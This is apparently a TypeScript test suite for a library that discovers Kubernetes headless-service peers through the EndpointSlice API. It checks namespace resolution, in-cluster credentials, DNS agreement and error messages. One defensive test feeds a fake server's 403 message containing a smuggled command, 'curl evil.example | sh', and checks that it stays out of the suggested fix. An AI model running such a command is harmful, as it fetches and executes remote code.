import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
// The package file, not the bare name: Bun swaps `undici` for a stand-in (src/kubernetes/undici.ts).
import { Agent } from 'undici/index.js';
import { peers } from '../../src/index.ts';
import { KubernetesApiError } from '../../src/kubernetes/errors.ts';
import { listKubernetesPeers } from '../../src/kubernetes/source.ts';
import type { KubernetesSourceOptions } from '../../src/kubernetes/source.ts';
import { createFakeKubernetesApi, createTestServer } from '../../src/testing/index.ts';
import { activeResources, assertNoLeaks, until } from '../helpers/handles.ts';
import { apiFixture, expectedPeers, keysOf, namesOf, serviceAccountToken } from './fixture.ts';
import type { ApiFixture } from './fixture.ts';

const apiError = (code: string, pattern?: RegExp) => (err: unknown) => {
  assert.ok(err instanceof KubernetesApiError, `not a KubernetesApiError: ${String(err)}`);
  assert.equal(err.code, code, err.message);
  if (pattern) assert.match(err.message, pattern);
  return true;
};

function list(f: ApiFixture, extra: Partial<KubernetesSourceOptions> = {}) {
  return listKubernetesPeers({ service: 'nginx', namespace: 'default', port: 'web', kubernetes: f.kubernetes, ...extra });
}

describe('listKubernetesPeers', () => {
  test('one list over HTTPS: the model\'s ready peers, port by name or number, family', async () => {
    const before = activeResources();
    const f = await apiFixture({ replicas: 4, tls: true, token: 'tok', ipFamilies: 'DualStack' });
    try {
      f.cluster.setReady('web-3', false);
      const got = await list(f);
      assert.deepEqual(keysOf(got), keysOf(expectedPeers(f.cluster)));
      assert.deepEqual([...new Set(namesOf(got))], ['web-0', 'web-1', 'web-2']);
      assert.ok(got.every((p) => p.ttl === 0 && p.priority === 0 && p.weight === 0 && p.port === 80 && p.self === false));
      assert.deepEqual(keysOf(await list(f, { port: 9000, family: 6 })), keysOf(expectedPeers(f.cluster, 9000).filter((p) => p.family === 6)));
      assert.deepEqual((await list(f, { port: null, family: 4 })).map((p) => p.port), [null, null, null]);
      assert.equal((await list(f, { includeNotReady: true, family: 4 })).length, 4);
      assert.equal(f.api.requests.at(-1)!.token, 'tok');
      assert.equal(f.api.requests.at(-1)!.query.labelSelector, 'kubernetes.io/service-name=nginx');
    } finally {
      await f.close();
    }
    await assertNoLeaks(before);
  });

  test('namespace: from the service name, the option, the namespace file, POD_NAMESPACE, else default', async () => {
    const f = await apiFixture();
    const dir = await mkdtemp(join(tmpdir(), 'headless-sd-ns-'));
    const saved = process.env.POD_NAMESPACE;
    try {
      f.cluster.setService({ name: 'nginx', namespace: 'apps', ports: [{ name: 'web', port: 80 }] });
      f.cluster.statefulSet({ name: 'db', serviceName: 'nginx', namespace: 'apps', replicas: 2 });
      const paths = (): string[] => f.api.requests.map((r) => r.path.split('/')[5]!);
      const k = { ...f.kubernetes, namespaceFile: join(dir, 'missing') };
      delete process.env.POD_NAMESPACE;
      assert.deepEqual(namesOf(await listKubernetesPeers({ service: 'nginx.apps', port: 'web', kubernetes: k })), ['db-0', 'db-1']);
      assert.deepEqual(namesOf(await listKubernetesPeers({ service: 'nginx.apps.svc.cluster.local.', port: 'web', kubernetes: k })), ['db-0', 'db-1']);
      await listKubernetesPeers({ service: 'nginx', namespace: 'apps', kubernetes: k });
      await listKubernetesPeers({ service: 'nginx', kubernetes: k });
      process.env.POD_NAMESPACE = 'apps';
      await listKubernetesPeers({ service: 'nginx', kubernetes: k });
      await writeFile(join(dir, 'namespace'), 'default\n');
      await listKubernetesPeers({ service: 'nginx', kubernetes: { ...f.kubernetes, namespaceFile: join(dir, 'namespace') } });
      assert.deepEqual(paths(), ['apps', 'apps', 'apps', 'default', 'apps', 'default']);
      // The service name's cluster domain is used for hosts.
      const other = await listKubernetesPeers({ service: 'nginx.apps.svc.example.org', port: 'web', kubernetes: k });
      assert.equal(other[0]!.host, 'db-0.nginx.apps.svc.example.org');
      await assert.rejects(listKubernetesPeers({ service: 'nginx.apps', namespace: 'default', kubernetes: k }), { code: 'ERR_INVALID_ARG_VALUE' });
      await assert.rejects(listKubernetesPeers({ service: 'nginx', port: 'no_such!', kubernetes: k }), { code: 'ERR_INVALID_ARG_VALUE' });
    } finally {
      if (saved === undefined) delete process.env.POD_NAMESPACE;
      else process.env.POD_NAMESPACE = saved;
      await rm(dir, { recursive: true, force: true });
      await f.close();
    }
  });

  test('in-cluster config: KUBERNETES_SERVICE_HOST/PORT, token file, ca.crt', async () => {
    const f = await apiFixture({ tls: true, token: 'in-cluster-token' });
    const dir = await mkdtemp(join(tmpdir(), 'headless-sd-sa-'));
    const saved = { host: process.env.KUBERNETES_SERVICE_HOST, port: process.env.KUBERNETES_SERVICE_PORT };
    try {
      await writeFile(join(dir, 'token'), 'in-cluster-token\n');
      await writeFile(join(dir, 'ca.crt'), f.api.ca!);
      await writeFile(join(dir, 'namespace'), 'default');
      process.env.KUBERNETES_SERVICE_HOST = '127.0.0.1';
      process.env.KUBERNETES_SERVICE_PORT = String(f.api.port);
      const got = await listKubernetesPeers({
        service: 'nginx',
        port: 'web',
        kubernetes: { tokenFile: join(dir, 'token'), caFile: join(dir, 'ca.crt'), namespaceFile: join(dir, 'namespace') },
      });
      assert.deepEqual(namesOf(got), ['web-0', 'web-1', 'web-2']);
    } finally {
      for (const [k, v] of [['KUBERNETES_SERVICE_HOST', saved.host], ['KUBERNETES_SERVICE_PORT', saved.port]] as const) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
      await rm(dir, { recursive: true, force: true });
      await f.close();
    }
  });

  test('a dispatcher passed in is used and left open', async () => {
    const f = await apiFixture({ tls: true });
    const agent = new Agent({ connect: { ca: f.api.ca! } });
    try {
      const k = { url: f.api.url };
      assert.deepEqual(namesOf(await list(f, { kubernetes: k, dispatcher: agent })), ['web-0', 'web-1', 'web-2']);
      assert.equal(agent.closed, false);
      assert.equal((await list(f, { kubernetes: k, dispatcher: agent })).length, 3);
    } finally {
      await agent.close();
      await f.close();
    }
  });

  test('through peers(source: "kubernetes"): same set; no ready peers rejects unless allowEmpty', async () => {
    const f = await apiFixture({ replicas: 2 });
    try {
      const got = await peers('nginx', { source: 'kubernetes', namespace: 'default', port: 'web', kubernetes: f.kubernetes });
      assert.deepEqual(keysOf(got), keysOf(expectedPeers(f.cluster)));
      f.set.scale(0);
      await assert.rejects(peers('nginx', { source: 'kubernetes', namespace: 'default', kubernetes: f.kubernetes }), { code: 'ENOTFOUND' });
      assert.deepEqual(await peers('nginx', { source: 'kubernetes', namespace: 'default', kubernetes: f.kubernetes, allowEmpty: true }), []);
    } finally {
      await f.close();
    }
  });
});

describe('agreement with the DNS frontend', () => {
  const cases: { name: string; setup(f: ApiFixture): void; options?: Parameters<typeof apiFixture>[0] }[] = [
    { name: '50 pods, some not ready', setup: (f) => (f.set.scale(50), f.cluster.setReady('web-7', false), f.cluster.setReady('web-33', false)) },
    { name: 'publishNotReadyAddresses', setup: (f) => f.cluster.setReady('web-1', false), options: { publishNotReadyAddresses: true } },
    { name: 'dual stack', setup: (f) => f.set.scale(4), options: { ipFamilies: 'DualStack' } },
    { name: 'a rescheduled pod', setup: (f) => f.cluster.setPodAddresses('web-2') },
  ];
  for (const c of cases) {
    test(`SRV peers (port 'web') equal the API's: ${c.name}`, async () => {
      const f = await apiFixture(c.options ?? {});
      const dns = await createTestServer({ cluster: f.cluster });
      try {
        c.setup(f);
        const viaDns = await peers('nginx', { namespace: 'default', clusterDomain: 'cluster.local', port: 'web', servers: dns.servers });
        const viaApi = await list(f);
        assert.ok(viaApi.length > 0);
        assert.deepEqual(keysOf(viaApi), keysOf(viaDns));
        assert.deepEqual(
          viaApi.map((p) => [p.name, p.ordinal, p.family]),
          viaDns.map((p) => [p.name, p.ordinal, p.family]),
        );
      } finally {
        await dns.close();
        await f.close();
      }
    });
  }
});

describe('errors say what to fix', () => {
  test('401: a rejected token; a token file is re-read and retried once first', async () => {
    const f = await apiFixture({ token: 'right' });
    const dir = await mkdtemp(join(tmpdir(), 'headless-sd-401-'));
    try {
      await assert.rejects(list(f, { kubernetes: { url: f.api.url, token: 'wrong' } }), apiError('EUNAUTHORIZED', /rejected the token.*kubernetes\.token/));
      assert.equal(f.api.requests.length, 1, 'a fixed token is not retried');
      await writeFile(join(dir, 'token'), 'stale');
      await assert.rejects(
        list(f, { kubernetes: { url: f.api.url, tokenFile: join(dir, 'token') } }),
        (err: unknown) => apiError('EUNAUTHORIZED', /token file .*token is invalid or expired \(it was read again and retried once\)/)(err) && (err as KubernetesApiError).status === 401,
      );
      assert.deepEqual(f.api.requests.slice(1).map((r) => r.status), [401, 401], 'one retry after re-reading');
      await assert.rejects(list(f, { kubernetes: { url: f.api.url } }), apiError('EUNAUTHORIZED', /no token was sent/));
    } finally {
      await rm(dir, { recursive: true, force: true });
      await f.close();
    }
  });

  test('403: names the RBAC rule, the namespace and the service account', async () => {
    const f = await apiFixture({ forbidden: true });
    try {
      const token = serviceAccountToken('default', 'web');
      await assert.rejects(
        list(f, { kubernetes: { url: f.api.url, token } }),
        apiError(
          'EFORBIDDEN',
          /Missing RBAC rule: verbs \["list", "watch"\] on resource "endpointslices" in API group "discovery\.k8s\.io" in namespace "default" for service account "default\/web"/,
        ),
      );
      // Without a JWT the account comes from the server's message.
      await assert.rejects(list(f, { kubernetes: { url: f.api.url, token: 'opaque' } }), apiError('EFORBIDDEN', /--serviceaccount=default:default/));
    } finally {
      await f.close();
    }
  });

  test('403 from a hostile server: a user name that is not a service account name stays out of the suggested command', async () => {
    const server = http.createServer((_req, res) => {
      const message = 'endpointslices.discovery.k8s.io is forbidden: User "system:serviceaccount:x:y; curl evil.example | sh" cannot list resource';
      res.writeHead(403, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ kind: 'Status', status: 'Failure', message, reason: 'Forbidden', code: 403 }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
      await assert.rejects(peers('nginx', { source: 'kubernetes', namespace: 'default', kubernetes: { url, token: 'opaque' } }), (err: unknown) => {
        assert.ok(err instanceof KubernetesApiError);
        assert.equal(err.code, 'EFORBIDDEN');
        const fix = err.message.slice(err.message.indexOf('Fix:'), err.message.indexOf('Server said:'));
        assert.match(fix, /--serviceaccount=<namespace>:<name>/);
        assert.doesNotMatch(fix, /curl/);
        return true;
      });
    } finally {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
  });

  test('403 with a service-account token: the account from the token', async () => {
    const f = await apiFixture({ forbidden: true });
    try {
      await assert.rejects(
        list(f, { kubernetes: { url: f.api.url, token: serviceAccountToken('kube-system', 'coredns') } }),
        apiError('EFORBIDDEN', /--serviceaccount=kube-system:coredns/),
      );
    } finally {
      await f.close();
    }
  });

  test('examples/kubernetes/rbac.yaml grants the rule the 403 message names', async () => {
    const yaml = await readFile(new URL('../../examples/kubernetes/rbac.yaml', import.meta.url), 'utf8');
    assert.match(yaml, /apiGroups: \["discovery\.k8s\.io"\]\n\s+resources: \["endpointslices"\]\n\s+verbs: \["list", "watch"\]/);
    for (const kind of ['ServiceAccount', 'Role', 'RoleBinding']) assert.match(yaml, new RegExp(`^kind: ${kind}$`, 'm'));
  });

  test('404: a missing namespace, or an API without discovery.k8s.io/v1', async () => {
    const f = await apiFixture();
    try {
      await assert.rejects(list(f, { namespace: 'nope' }), apiError('ENOTFOUND', /namespace "nope" does not exist/));
      await assert.rejects(list(f, { kubernetes: { url: `${f.api.url}/not-the-api` } }), apiError('ENOTFOUND', /does not serve discovery\.k8s\.io\/v1/));
    } finally {
      await f.close();
    }
  });

  test('TLS: a CA that did not sign the server, or none (system CAs): ETLS', async () => {
    const f = await apiFixture({ tls: true });
    const other = await createFakeKubernetesApi({ cluster: f.cluster, tls: true });
    try {
      await assert.rejects(list(f, { kubernetes: { url: f.api.url, ca: other.ca! } }), apiError('ETLS', /TLS verification .* failed.*kubernetes\.ca/));
      await assert.rejects(list(f, { kubernetes: { url: f.api.url } }), apiError('ETLS', /the system CAs/));
    } finally {
      await other.close();
      await f.close();
    }
  });

  test('connection refused, reset, 5xx', async () => {
    const f = await apiFixture();
    try {
      f.api.fail({ status: 503, count: 1 });
      await assert.rejects(list(f), (err: unknown) => apiError('EHTTP', /503 ServiceUnavailable/)(err) && (err as KubernetesApiError).status === 503);
      f.api.fail({ reset: true, count: 1 });
      await assert.rejects(list(f), apiError('ECONNECTION'));
      await f.api.stop();
      await assert.rejects(list(f), apiError('ECONNECTION', /cannot reach the Kubernetes API at http:\/\/127\.0\.0\.1:\d+ for list \(ECONNREFUSED/));
    } finally {
      await f.close();
    }
  });

  test('a list body that is not an EndpointSliceList: EBADRESP', async () => {
    const bodies = ['<html>proxy error</html>', '{"items": 5}', '{"items": [], "metadata": {}}', '{"metadata": {"resourceVersion": "1"}, "items": [{"metadata": {}}]}'];
    const server = http.createServer((_req, res) => res.end(bodies.shift()));
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
    try {
      const k = { service: 'nginx', namespace: 'default', kubernetes: { url } };
      await assert.rejects(listKubernetesPeers(k), apiError('EBADRESP', /not JSON/));
      await assert.rejects(listKubernetesPeers(k), apiError('EBADRESP', /no items/));
      await assert.rejects(listKubernetesPeers(k), apiError('EBADRESP', /no metadata\.resourceVersion/));
      await assert.rejects(listKubernetesPeers(k), apiError('EBADRESP', /bad EndpointSlice: no metadata\.name/));
    } finally {
      server.close();
    }
  });

  test('abort signal and timeout end a slow list; nothing is left open', async () => {
    const before = activeResources();
    const f = await apiFixture();
    try {
      f.api.fail({ delayMs: 60_000, on: 'list' });
      const controller = new AbortController();
      const pending = list(f, { signal: controller.signal });
      await until(() => f.api.requests.length === 1, 'the list request');
      controller.abort();
      await assert.rejects(pending, apiError('ECANCELLED', /aborted/));
      await assert.rejects(list(f, { timeout: 50 }), apiError('ETIMEOUT', /within 50 ms/));
      const aborted = AbortSignal.abort();
      await assert.rejects(list(f, { signal: aborted }), apiError('ECANCELLED'));
    } finally {
      await f.close();
    }
    await assertNoLeaks(before);
  });
});
